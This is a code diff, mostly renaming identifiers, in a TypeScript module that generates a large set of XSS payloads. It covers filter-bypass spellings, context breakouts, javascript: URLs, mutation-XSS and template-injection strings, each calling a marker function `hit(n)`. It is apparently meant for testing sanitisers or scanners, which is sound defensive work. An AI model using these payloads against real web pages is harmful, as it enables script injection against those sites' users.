@@ -1,11 +1,11 @@
 /**
- * The XSS vectors: texts that run as a script if a page does not treat them as text. They vary by the context that they
- * break out of, the element and event, and the spelling. Each calls `hit` with its number, which identifies it.
+ * The XSS payloads: texts that execute as a script if a page does not treat them as text. They vary by the context that
+ * they break out of, the element and event, and the spelling. Each calls `hit` with its number, which identifies it.
  */
 
-export type Vector = { number: number; text: string }
+export type Payload = { number: number; text: string }
 
-type Written = (call: string) => string
+type Writer = (call: string) => string
 
 const EVENTS: [string, string][] = [
   ['img src=x', 'onerror'],
@@ -35,7 +35,7 @@ const EVENTS: [string, string][] = [
 ]
 
 /** Spellings of an element with its handler that bypass filters. */
-const WRITINGS: ((element: string, event: string) => Written)[] = [
+const SPELLINGS: ((element: string, event: string) => Writer)[] = [
   (element, event) => (call) => `<${element} ${event}=${call}>`,
   (element, event) => (call) => `<${element} ${event}="${call}">`,
   (element, event) => (call) => `<${element.toUpperCase()} ${event.toUpperCase()}='${call}'>`,
@@ -44,7 +44,7 @@ const WRITINGS: ((element: string, event: string) => Written)[] = [
   (element, event) => (call) => `<${element} ${event}="${entities(call)}">`,
 ]
 
-const SCRIPTS: Written[] = [
+const SCRIPTS: Writer[] = [
   (call) => `<script>${call}</script>`,
   (call) => `<ScRiPt>${call}</sCrIpT >`,
   (call) => `<script/x>${call}</script\n>`,
@@ -66,7 +66,7 @@ const SCRIPTS: Written[] = [
   (call) => `<base href="javascript:${call}//">`,
 ]
 
-/** Ends of the contexts around a text, with which it breaks out of them. */
+/** Texts that end the context around a payload, so that it breaks out. */
 const CLOSERS = [
   '</title>',
   '</textarea>',
@@ -86,13 +86,13 @@ const CLOSERS = [
   '</p></div>',
 ]
 
-const ATTRIBUTES: Written[] = ['"', "'", '`', '&quot;', '\\"', "\\'", ' '].flatMap((quote): Written[] => [
+const ATTRIBUTES: Writer[] = ['"', "'", '`', '&quot;', '\\"', "\\'", ' '].flatMap((quote): Writer[] => [
   (call) => `${quote} autofocus tabindex=1 onfocus=${call} x=${quote}`,
   (call) => `${quote} onload=${call} onerror=${call} ${quote}`,
   (call) => `x${quote} style=${quote}animation:spin 1s${quote} onanimationstart=${quote}${call}`,
 ])
 
-const SCHEMES: Written[] = [
+const SCHEMES: Writer[] = [
   'javascript:',
   'JaVaScRiPt:',
   'javascript\t:',
@@ -117,12 +117,12 @@ const SCHEMES: Written[] = [
   '//localhost/%0ajavascript:',
 ].map((scheme) => (call) => `${scheme}${call}`)
 
-const LINKS: Written[] = SCHEMES.flatMap((scheme): Written[] => [
+const LINKS: Writer[] = SCHEMES.flatMap((scheme): Writer[] => [
   scheme,
   (call) => `<a href="${scheme(call)}">press</a>`,
 ])
 
-const ADDRESSED: Written[] = [
+const URL_ATTRIBUTES: Writer[] = [
   (call) => `<form action="javascript:${call}"><button autofocus>press</button></form>`,
   (call) => `<button form=x formaction="javascript:${call}">press</button>`,
   (call) => `<svg><a xlink:href="javascript:${call}"><text y=9>press</text></a></svg>`,
@@ -142,7 +142,7 @@ const ADDRESSED: Written[] = [
 ]
 
 /** Mutation XSS: harmless when parsed once, harmful when serialised and parsed again. */
-const READ_TWICE: Written[] = [
+const MUTATION_XSS: Writer[] = [
   (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
   (call) =>
     `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
@@ -161,8 +161,8 @@ const READ_TWICE: Written[] = [
   (call) => `&amp;lt;img src=x onerror=${call}&amp;gt;`,
 ]
 
-/** Vectors for templates, for JSON in the page, and for double decoding. */
-const ENCODED: Written[] = [
+/** Payloads for templates, for JSON in the page, and for double decoding. */
+const ENCODED: Writer[] = [
   (call) => `{{constructor.constructor('${call}')()}}`,
   (call) => `{{$on.constructor('${call}')()}}`,
   (call) => `\${${call}}`,
@@ -194,21 +194,21 @@ const ENCODED: Written[] = [
 const entities = (text: string): string =>
   Array.from(text, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join('')
 
-const WRITTEN: Written[] = [
-  ...EVENTS.flatMap(([element, event]) => WRITINGS.map((write) => write(element, event))),
+const WRITERS: Writer[] = [
+  ...EVENTS.flatMap(([element, event]) => SPELLINGS.map((write) => write(element, event))),
   ...SCRIPTS,
-  ...CLOSERS.flatMap((closer): Written[] => [
+  ...CLOSERS.flatMap((closer): Writer[] => [
     (call) => `${closer}<script>${call}</script>`,
     (call) => `${closer}<img src=x onerror=${call}>`,
   ]),
   ...ATTRIBUTES,
   ...LINKS,
-  ...ADDRESSED,
-  ...READ_TWICE,
+  ...URL_ATTRIBUTES,
+  ...MUTATION_XSS,
   ...ENCODED,
 ]
 
-export const VECTORS: readonly Vector[] = WRITTEN.map((write, number) => ({
+export const PAYLOADS: readonly Payload[] = WRITERS.map((write, number) => ({
   number,
   text: write(`hit(${String(number)})`),
 }))
